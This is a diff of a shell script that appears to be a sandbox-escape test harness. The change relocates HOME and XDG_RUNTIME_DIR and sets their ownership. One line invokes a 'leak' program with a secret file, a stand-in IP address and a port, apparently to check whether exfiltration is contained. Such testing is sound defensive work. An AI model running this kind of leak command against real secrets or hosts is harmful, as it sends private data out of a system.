@@ -85,14 +85,14 @@ fi
 printf 'secret-%s' "$(od -An -N12 -tx1 /dev/urandom | tr -d ' \n')" >$world/secret
 chmod 0600 $world/secret
 export TMPDIR=$world/tmp ESCAPE_GROUND=$world/ground ESCAPE_PROGRAMS=$programs ESCAPE_OUTSIDE=$world/outside.jsonl
-export ESCAPE_SECRET=$world/secret HOME=$world/tmp
-unset XDG_RUNTIME_DIR
+export ESCAPE_SECRET=$world/secret HOME=/run/home XDG_RUNTIME_DIR=/run/user
+mkdir -m 0700 $HOME $XDG_RUNTIME_DIR
 set -- $programs/leak $world/secret 198.51.100.240 7001 "$@"
 status=0
 if [ "$uid" = 0 ]; then
   "$@" || status=$?
 elif is_real_root; then
-  chown "$uid:$uid" $world/ground $world/ground/workspace $world/secret
+  chown "$uid:$uid" $world/ground $world/ground/workspace $world/secret $HOME $XDG_RUNTIME_DIR
   setpriv --reuid "$uid" --regid "$uid" --clear-groups "$@" || status=$?
 else
   unshare --user --map-user="$uid" --map-group="$uid" "$@" || status=$?
